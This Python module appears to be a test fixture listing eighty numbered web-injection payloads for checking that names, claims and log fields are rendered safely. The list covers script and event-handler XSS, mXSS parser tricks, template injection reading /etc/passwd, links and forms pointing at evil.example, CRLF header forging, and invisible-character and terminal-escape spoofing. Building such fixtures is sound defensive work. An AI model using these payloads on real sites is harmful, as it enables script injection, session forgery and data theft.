# SPDX-License-Identifier: Apache-2.0
"""W01: eighty texts that somebody writes into a name, a claim or a log entry so that a page runs, hides or forges something.

Each that can run calls ``alert`` with its own number, so that a test knows which one did. What they are after: elements, attributes,
script and style contexts, URLs, templates, the HTML parser's repairs (mXSS), characters that are not seen, lines and terminals.
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Final

_ELEMENTS: Final = (
    "<script>alert(§)</script>",
    "<ScRiPt>alert(§)</sCrIpT>",
    "<script/x>alert(§)</script>",
    "<script\n>alert(§)</script\n>",
    "<<script>alert(§)//<</script>",
    "</script><script>alert(§)</script>",
    "<script src=data:text/javascript,alert(§)></script>",
    "<script type=module>alert(§)</script>",
    "<img src=x onerror=alert(§)>",
    "<img/src=x/onerror=alert(§)>",
    "<img src=x:x onerror=alert(§) >",
    "<IMG SRC=x ONERROR=&#97;lert(§)>",
    "<svg onload=alert(§)>",
    "<svg/onload=alert(§)>",
    "<svg><script>alert(§)</script></svg>",
    "<svg><animate onbegin=alert(§) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(§)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(§)/>#x'></svg>",
    "<body onload=alert(§)>",
    "<body onpageshow=alert(§)>",
    "<details open ontoggle=alert(§)>",
    "<video src=x onerror=alert(§)>",
    "<audio src=x onerror=alert(§)>",
    "<video><source onerror=alert(§)></video>",
    "<input autofocus onfocus=alert(§)>",
    "<select autofocus onfocus=alert(§)>",
    "<object data=data:text/html,<script>alert(§)</script>></object>",
    "<embed src=javascript:alert(§)>",
    "<iframe src=javascript:alert(§)></iframe>",
    "<iframe srcdoc='<script>parent.alert(§)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(§)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/§>",
    "<form action=https://evil.example/><button>§</button></form>",
    "<marquee onstart=alert(§)>x</marquee>",
)
_BREAKS: Final = (
    '"><script>alert(§)</script>',
    "'><script>alert(§)</script>",
    '"><img src=x onerror=alert(§)>',
    "'><img src=x onerror=alert(§)>",
    '" autofocus onfocus=alert(§) x="',
    "' autofocus onfocus=alert(§) x='",
    "` onmouseover=alert(§) `",
    "x onerror=alert(§)",
    "</code></pre><svg/onload=alert(§)>",
    "</title><script>alert(§)</script>",
    "</textarea><script>alert(§)</script>",
    "</style><script>alert(§)</script>",
    "--><script>alert(§)</script><!--",
    "]]><script>alert(§)</script>",
    "&lt;script&gt;alert(§)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(§)&#62;",
    "%3Cscript%3Ealert(§)%3C/script%3E",
    "\\u003cscript\\u003ealert(§)\\u003c/script\\u003e",
)
_SCRIPTS_AND_URLS: Final = (
    "';alert(§);//",
    '";alert(§);//',
    "${alert(§)}",
    "\\';alert(§);//",
    "javascript:alert(§)",
    "JaVaScRiPt:alert(§)",
    "java\tscript:alert(§)",
    "\x01javascript:alert(§)",
    "data:text/html,<script>alert(§)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+#§",
    "vbscript:msgbox(§)",
    "//evil.example/§",
    "https://evil.example/\\@localhost/§",
)
_TEMPLATES_AND_STYLES: Final = (
    "{{7*7}}§",
    "{% include '/etc/passwd' %}§",
    "{{constructor.constructor('alert(§)')()}}",
    "<style>@import'https://evil.example/§';</style>",
    "<div style=background:url(https://evil.example/§)>",
)
_REPAIRS: Final = (
    '<noscript><p title="</noscript><img src=x onerror=alert(§)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(§)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(§)>",
)
_UNSEEN: Final = (
    "admin\u202e§moc.elpmaxe@",
    "ad\u200bmin\u2066§\u2069\ufeff",
    "<scr\x00ipt>alert(§)</scr\x00ipt>",
    "first\r\nSet-Cookie: forged=§\r\n\r\n<script>alert(§)</script>",
    "line\u2028alert(§)\u2029\x85",
    "\x1b[2J\x1b]0;forged §\x07\x9b31m",
)
_ALL: Final = (*_ELEMENTS, *_BREAKS, *_SCRIPTS_AND_URLS, *_TEMPLATES_AND_STYLES, *_REPAIRS, *_UNSEEN)
PAYLOADS: Final = tuple(text.replace("§", str(number)) for number, text in enumerate(_ALL, 1))
"""The first one has the number 1."""
PRINTABLE: Final = tuple(text for text in PAYLOADS if text.isprintable())
"""Those that a name, an identity or a field of a form may be."""


class Elements(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, text: str = "") -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.handlers: list[str] = []
        self.links: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]
